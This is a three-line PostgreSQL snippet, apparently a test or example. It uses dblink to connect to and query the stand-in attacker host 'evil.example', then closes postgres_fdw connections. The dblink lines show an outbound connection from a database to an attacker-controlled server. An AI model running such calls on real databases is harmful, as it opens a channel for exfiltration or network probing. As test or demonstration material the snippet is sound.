SELECT dblink_connect('host=evil.example');
SELECT * FROM dblink('host=evil.example', 'select 1') AS t(a int);
SELECT postgres_fdw_disconnect_all();
